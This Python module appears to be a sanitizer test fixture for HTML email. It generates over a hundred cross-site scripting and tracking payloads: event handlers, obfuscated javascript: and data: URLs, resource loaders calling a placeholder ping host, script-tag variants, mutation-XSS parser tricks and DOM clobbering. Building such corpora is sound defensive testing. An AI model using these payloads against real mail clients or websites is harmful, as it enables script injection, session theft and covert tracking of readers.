"""What a hostile mail may hold: more than a hundred ways to run a script or to call home.

Written for this project, by classes: script elements, event handlers, addresses with schemes, parsers
that change their mind (mutation), foreign content, styles, frames, forms, encodings, half markup,
clobbering, and plain tracking. `PING` stands for an address that must never be asked; `RUN` is what
must never run.
"""

from __future__ import annotations

from itertools import product

PING = "https://ping.example.test"
RUN = "window.ran=1;alert(1)"

_HANDLERS = (
    "onload", "onerror", "onclick", "onmouseover", "onfocus", "onblur", "oninput", "onchange",
    "ontoggle", "onanimationstart", "ontransitionend", "onpointerover", "onwheel", "onscroll",
    "onbeforetoggle", "onscrollend", "oncontentvisibilityautostatechange",
)  # fmt: skip
_SCHEMES = (
    "javascript:{0}", "JaVaScRiPt:{0}", " javascript:{0}", "\x01javascript:{0}", "java\tscript:{0}",
    "java\nscript:{0}", "java\rscript:{0}", "javascript&colon;{0}", "&#106;avascript:{0}",
    "&#x6A;avascript:{0}", "javascript&#58;{0}", "jav&#x09;ascript:{0}", "vbscript:{0}",
    "data:text/html,<script>{0}</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{0}'/>", "blob:{0}",
    "//ping.example.test/x", "/logout/", "view-source:javascript:{0}", "feed:javascript:{0}",
    "javascript://%0a{0}", "filesystem:{0}", "mhtml:{0}", "\u200bjavascript:{0}",
)  # fmt: skip
_LOADERS = (
    "<img src='{0}'>", "<img srcset='{0} 1x'>", "<picture><source srcset='{0}'><img></picture>",
    "<image src='{0}'>", "<video src='{0}' autoplay></video>", "<video poster='{0}'></video>",
    "<audio src='{0}' autoplay></audio>", "<input type=image src='{0}'>", "<body background='{0}'>",
    "<table background='{0}'><tr><td background='{0}'>x</table>", "<link rel=stylesheet href='{0}'>",
    "<link rel=prefetch href='{0}'>", "<link rel=dns-prefetch href='{0}'>", "<link rel=icon href='{0}'>",
    "<link rel=preload as=image href='{0}'>", "<style>@import '{0}';</style>",
    "<style>body{{background:url({0})}}</style>", "<p style='background:url({0})'>x</p>",
    "<p style=\"background-image:image-set('{0}' 1x)\">x</p>", "<ul style='list-style:url({0})'><li>x</ul>",
    "<p style=\"content:url('{0}')\">x</p>", "<p style='cursor:url({0}),auto'>x</p>",
    "<iframe src='{0}'></iframe>", "<frameset><frame src='{0}'></frameset>", "<object data='{0}'></object>",
    "<embed src='{0}'>", "<applet code='{0}'></applet>", "<base href='{0}'><img src=x>",
    "<meta http-equiv=refresh content='0;url={0}'>", "<svg><image href='{0}'/></svg>",
    "<svg><use href='{0}#a'/></svg>", "<svg><feImage href='{0}'/></svg>",
    "<svg><style>*{{fill:url({0})}}</style><rect width=9 height=9 /></svg>",
    "<script src='{0}'></script>", "<script type=module>import '{0}'</script>",
    "<bgsound src='{0}'>", "<track src='{0}'>", "<a href=x ping='{0}'>x</a>",
    "<form action='{0}'><input autofocus name=a><button>x</button></form>",
    "<html manifest='{0}'>", "<portal src='{0}'></portal>", "<q cite='{0}'>x</q>",
    "<del cite='{0}'>x</del>", "<img lowsrc='{0}' dynsrc='{0}'>", "<math><mglyph src='{0}'></math>",
)  # fmt: skip
_SCRIPTS = (
    "<script>{0}</script>", "<SCRIPT>{0}</SCRIPT>", "<script\x20type=text/javascript>{0}</script >",
    "<script/x>{0}</script>", "<script\t>{0}</script\n>", "<scr<script>ipt>{0}</scr</script>ipt>",
    "<<script>{0}</script>", "<script>{0}", "</p><script>{0}</script><p>", "<script><!--\n{0}\n--></script>",
    "<svg><script>{0}</script></svg>", "<svg><script xlink:href='data:,{0}'/></svg>",
    "<svg><a xlink:href='javascript:{0}'><text y=20>x</text></a></svg>",
    "<svg><animate onbegin='{0}' attributeName=x dur=1s></svg>",
    "<svg><set attributeName=href to='javascript:{0}'/></svg>",
    "<math href='javascript:{0}'>x</math>", "<math><maction actiontype='statusline' xlink:href='javascript:{0}'>x",
    "<iframe srcdoc='<script>{0}</script>'></iframe>", "<iframe src='javascript:{0}'></iframe>",
    "<object data='javascript:{0}'></object>", "<embed src='javascript:{0}'>",
    "<form action='javascript:{0}'><button>x</button></form>", "<button formaction='javascript:{0}'>x</button>",
    "<isindex action='javascript:{0}' type=submit>", "<meta http-equiv=refresh content='0;javascript:{0}'>",
    "<base href='javascript:{0}//'><a href=#>x</a>", "<p style='width:expression({0})'>x</p>",
    "<p style='behavior:url(#default#time2)' onbegin='{0}'>x</p>", "<xml><i><![CDATA[<script>{0}</script>]]></i></xml>",
    "<?xml-stylesheet href='javascript:{0}'?>", "<!--[if gte IE 4]><script>{0}</script><![endif]-->",
    "<!--><script>{0}</script-->", "<!--!><script>{0}</script>-->", "<![CDATA[<script>{0}</script>]]>",
    "<!doctype html [<!ENTITY x '<script>{0}</script>'>]>&x;", "<template><script>{0}</script></template>",
    "<template shadowrootmode=open><script>{0}</script></template>", "<slot><script>{0}</script></slot>",
    "&lt;script&gt;{0}&lt;/script&gt;", "+ADw-script+AD4-{0}+ADw-/script+AD4-",
    "<x-y><script>{0}</script></x-y>", "<p is='a b' onx='1'><script>{0}</script></p>",
)  # fmt: skip
#: Text that one parser takes for markup and another does not: after a second reading it bites.
_MUTATIONS = (
    "<noscript><p title='</noscript><img src=x onerror={0}>'></noscript>",
    "<style><p title='</style><img src=x onerror={0}>'></style>",
    "<title><p title='</title><img src=x onerror={0}>'></title>",
    "<textarea><p title='</textarea><img src=x onerror={0}>'></textarea>",
    "<xmp><p title='</xmp><img src=x onerror={0}>'></xmp>",
    "<noembed><p title='</noembed><img src=x onerror={0}>'></noembed>",
    "<noframes><p title='</noframes><img src=x onerror={0}>'></noframes>",
    "<iframe><p title='</iframe><img src=x onerror={0}>'></iframe>",
    "<plaintext><img src=x onerror={0}>",
    "<svg><style><img title='</style><img src=x onerror={0}>'></style></svg>",
    "<svg></p><style><a id='</style><img src=x onerror={0}>'>",
    "<svg><p><style><a title='</style><img src=x onerror={0}>'></style></p></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror={0}></style></mglyph></table></mtext></math>",
    "<math><mtext><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror={0}&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={0}>",
    "<math><annotation-xml encoding='text/html'><style><img src=x onerror={0}></style></annotation-xml></math>",
    "<svg><desc><style><img title='</style><img src=x onerror={0}>'></desc></svg>",
    "<svg><foreignObject><math><mi><style><img src=x onerror={0}></style></mi></math></foreignObject></svg>",
    "<svg><title><a title='</title><img src=x onerror={0}>'></title></svg>",
    "<table><td><svg><desc><td></desc></svg><img src=x onerror={0}></table>",
    "<select><style></select><img src=x onerror={0}></style></select>",
    "<option><style></option></select><img src=x onerror={0}></style></option>",
    "<p><table><p title='</table><img src=x onerror={0}>'></table></p>",
    "<a title='`<img src=x onerror={0}>`'>x</a>", "<p title=\"` onmouseover={0} `\">x</p>",
    "<listing>&lt;img src=x onerror={0}&gt;</listing>", "<pre>\n&lt;img src=x onerror={0}&gt;</pre>",
    "<dl><dt><dd><dl><svg><style><!--</style><img src=x onerror={0}>--></dl>",
    "<template><s><template><s><img src=x onerror={0}>@</s></template></s></template>",
    "<comment><img src='</comment><img src=x onerror={0}//'>", "<![><img src=']><img src=x onerror={0}//'>",
)  # fmt: skip
_HALVES = (
    "<img src=x onerror={0}", "<img/src=x/onerror={0}>", "<img\x00src=x onerror={0}>",
    "<im\x00g src=x onerror={0}>", "<img src='x' 'onerror={0}'>", "<img src=x:x onerror\x0c=\x0c{0}>",
    "<img src=`x`onerror={0}>", "<a href='x' onclick\n=\n'{0}'>x", "<p\u2028onclick={0}>x</p>",
    "<img """'"><script>{0}</script>">'.replace('"""', ""), "'><svg/onload={0}>", "\"><svg/onload={0}>",
    "--><svg/onload={0}>", "</style><svg/onload={0}>", "</title></head><body onload={0}>",
    "<body/onload={0}>", "<body><body onload={0}>", "<html onclick={0}><p>x", "<details open ontoggle={0}>",
    "<p id=getElementById name=body>x</p><form id=x><input name=attributes></form>",
    "<a id=ran name=ran href=https://x.example>x</a>", "<a href='mailto:a@b.example?subject=x' onclick={0}>x</a>",
    "<p dir=rtl lang='\"><svg onload={0}>'>x</p>", "<td colspan='1 onclick={0}'>x</td>",
    "<input autofocus onfocus={0}>", "<video><source onerror={0}></video>", "<marquee onstart={0}>x</marquee>",
    "<keygen autofocus onfocus={0}>", "<div popover id=p onbeforetoggle={0}>x</div><button popovertarget=p>y</button>",
    "<p contenteditable onfocus={0} autofocus tabindex=0>x</p>", "<style>@keyframes a{{}}</style><p style='animation:a' onanimationstart={0}>x",
)  # fmt: skip


def vectors() -> list[str]:
    """All of them, each once."""
    found = [f"<p tabindex=0 autofocus {h}='{RUN}'>x</p>" for h in _HANDLERS]
    found += [f"<img src=x {h}={RUN}>" for h in _HANDLERS[:4]]
    found += [f'<a href="{s.format(RUN)}">x</a>' for s in _SCHEMES]
    found += [one.format(f"{PING}/{n}") for n, one in enumerate(_LOADERS)]
    for group in (_SCRIPTS, _MUTATIONS, _HALVES):
        found += [one.format(RUN) for one in group]
    # Wrapped: what a parser does depends on where it stands.
    found += [
        before + one.format(RUN) + after
        for (before, after), one in product(
            (("<table><tr><td>", "</table>"), ("<svg>", "</svg>"), ("<math>", "</math>")),
            _SCRIPTS[:4] + _HALVES[:2],
        )
    ]
    return list(dict.fromkeys(found))
